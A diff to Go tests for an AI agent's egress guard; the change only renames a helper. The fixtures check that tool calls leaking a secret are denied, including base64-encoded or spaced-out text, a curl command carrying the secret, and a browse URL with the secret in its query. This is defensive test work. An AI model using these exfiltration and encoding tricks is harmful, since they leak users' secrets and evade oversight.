@@ -26,7 +26,7 @@ func TestEgress_DeniesSecrets(t *testing.T) {
 		{"sent in base64", judged{tool: effects(tools.Send)}, `{"text":"` + base64.StdEncoding.EncodeToString([]byte("x "+secret)) + `"}`, guard.Deny},
 		{"sent spread out", judged{tool: effects(tools.Send)}, `{"text":"` + strings.Join(strings.Split(secret, ""), " ") + `"}`, guard.Deny},
 		{"run", judged{tool: effects(tools.Exec)}, `{"command":"curl x?` + secret + `"}`, guard.Deny},
-		{"fetched", browse("https://allowed.example/?t=" + secret), `{}`, guard.Deny},
+		{"fetched", browseTool("https://allowed.example/?t=" + secret), `{}`, guard.Deny},
 		{"in the resolved command", judged{effects(tools.Exec), tools.CallAssessment{Exact: "curl " + secret}}, `{}`, guard.Deny},
 		{"read", judged{tool: effects(tools.Read)}, `{"q":"` + secret + `"}`, guard.Allow},
 		{"without the secret", judged{tool: effects(tools.Send)}, `{"text":"a token"}`, guard.Ask},
@@ -43,7 +43,7 @@ func TestEgress_DeniesSecrets(t *testing.T) {
 func TestEgress_AsksForOpaqueAddresses(t *testing.T) {
 	f := newGuard(t, guard.Options{Hosts: []string{"allowed.example"}})
 	data := "https://allowed.example/" + base64.RawURLEncoding.EncodeToString([]byte("what the mail of the owner says"))
-	r := guard.Request{Tool: browse(data), Args: []byte(`{}`), Call: "c", Session: "s", Attended: true}
+	r := guard.Request{Tool: browseTool(data), Args: []byte(`{}`), Call: "c", Session: "s", Attended: true}
 	if d := f.decide(r); d.Verdict != guard.Ask || d.Rule != "egress, opaque" {
 		t.Errorf("address made by the model: %s (%s), want ask", d.Verdict, d.Rule)
 	}
